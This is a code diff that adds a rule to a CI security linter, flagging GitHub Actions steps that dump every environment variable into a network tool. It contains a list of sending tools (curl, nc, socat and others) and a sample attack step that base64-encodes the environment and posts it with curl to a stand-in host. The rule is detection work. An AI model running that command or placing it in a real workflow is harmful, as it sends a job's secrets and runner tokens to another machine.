@@ -108,6 +108,65 @@ export const remoteModelCode: Rule = {
     }),
 };
 
+const DUMPING: ReadonlySet<string> = new Set(['env', 'printenv']);
+const SENDING: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'http', 'xh']);
+
+/** CI032: every variable of the job goes to another machine. */
+export const environmentSent: Rule = {
+  id: 'CI032',
+  name: 'environment-sent',
+  title: 'The whole environment is sent elsewhere',
+  what: 'A script lists all variables (`env`, `printenv`) and gives them to a program that sends.',
+  why: 'The environment of a job holds its secrets and the tokens of the runner. Stolen packages and moved tags of actions steal exactly like this.',
+  sources: ['CVE-2025-30066', 'Codecov Bash uploader (2021)', 'CWE-200'],
+  severity: 'high',
+  confidence: 'high',
+  tier: 'regular',
+  family: 'CI',
+  fix: 'none',
+  advice: 'Send the named values that the receiver needs, and none of them a secret.',
+  tags: ['CWE-200', 'CWE-506', 'OWASP-CICD-SEC-6'],
+  attack: workflow({ steps: '- run: env | base64 | curl -d @- https://collect.example.test/' }),
+  benign: workflow({ steps: '- run: env | sort' }),
+  check: (facts) =>
+    gitHubSteps(facts).flatMap((scope): readonly FindingDraft[] => {
+      const { run } = scope.step;
+      const dump = run === undefined ? undefined : sentDump(run.script.commands);
+      if (run === undefined || dump === undefined) return [];
+      const { place, offsetOf } = run.text;
+      return [
+        {
+          rule: 'CI032',
+          message: `${stepName(scope.step)} sends every variable of the job elsewhere`,
+          severity: 'high',
+          confidence: 'high',
+          place: { file: place.file, span: { start: offsetOf(dump.span.start), end: offsetOf(dump.span.end - 1) + 1 } },
+          subject: subjectOf(scope, stepName(scope.step), 'environment'),
+        },
+      ];
+    }),
+};
+
+/** The dump, when it flows into a sender: by a pipe, in a substitution, or through a variable. */
+function sentDump(commands: readonly ScriptCommand[]): ScriptCommand | undefined {
+  const senders = commands.filter(({ words }) => SENDING.has(words[0]?.literal ?? ''));
+  if (senders.length === 0) return undefined;
+  return commands.find((command) => {
+    const { words, pipeline, span } = command;
+    // With arguments `env` starts a program and `printenv` names variables.
+    if (!DUMPING.has(words[0]?.literal ?? '') || words.length > 1) return false;
+    const holders = commands.flatMap(({ assignments }) =>
+      assignments.filter((one) => one.span.start <= span.start && span.end <= one.span.end).map(({ name }) => name),
+    );
+    return senders.some(
+      (sender) =>
+        (sender.pipeline.id === pipeline.id && sender.pipeline.position > pipeline.position) ||
+        (sender.span.start <= span.start && span.end <= sender.span.end) ||
+        sender.words.some(({ expansions }) => expansions.some(({ name }) => holders.includes(name ?? ''))),
+    );
+  });
+}
+
 /** CI029: a signature of anybody. */
 export const unboundSignature: Rule = {
   id: 'CI029',
